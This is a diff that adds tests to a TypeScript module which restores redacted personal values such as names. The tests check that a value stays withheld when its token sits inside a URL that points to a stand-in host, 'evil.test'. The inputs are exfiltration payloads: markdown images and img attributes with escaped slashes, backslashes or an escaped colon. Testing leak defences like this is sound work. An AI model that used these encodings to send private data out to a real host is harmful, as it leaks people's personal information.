@@ -130,6 +130,32 @@ describe('behind a value that is a URL', () => {
   });
 });
 
+describe('URLs in JSON', () => {
+  const options = () => ({
+    vault: vaultWith(['URL', 1, 'full', 'https://evil.test/c'], ['NAME', 1, 'full', 'Maria Lopez']),
+    urlHosts: new Set<string>(),
+    mode: 'json' as const,
+    counts: { restored: 0, unknown: 0, withheld: 0 },
+  });
+
+  test.each<[string, boolean, string]>([
+    ['see https://ok.test/a\\n[NAME_1]', true, 'an escaped line end ends a URL'],
+    ['see [URL_1]\\n[NAME_1]', true, 'and one that was a token'],
+    ['see [URL_1]?q=[NAME_1]', false, 'a URL that was a token'],
+    ['{\\"x\\":\\"Dear:\\\\n[NAME_1]\\"}', true, 'the line end of JSON in JSON is no URL without a scheme'],
+    ['<img src=\\"https://evil.test/?q=a [NAME_1]\\">', false, 'an attribute in escaped quotes'],
+    ['![x](\\\\\\\\evil.test/[NAME_1])', false, 'backslashes for slashes'],
+    ['![x](https:\\/\\/evil.test\\/[NAME_1])', false, 'escaped slashes'],
+    ['![x](https\\u003a//evil.test/[NAME_1])', false, 'an escaped colon'],
+  ])('"%s" is restored: %s (%s)', (written, isRestored) => {
+    const text = `{"a":"${written}"}`;
+    const restored = restoreText(text, options());
+    expect(restored.includes('Maria Lopez')).toBe(isRestored);
+    const restorer = new Restorer(options());
+    expect([...text].map((piece) => restorer.push(piece)).join('') + restorer.flush()).toBe(restored);
+  });
+});
+
 describe('a backslash before a token', () => {
   const vault = sampleVault();
   vault.noteBackslash('[NAME_1]');
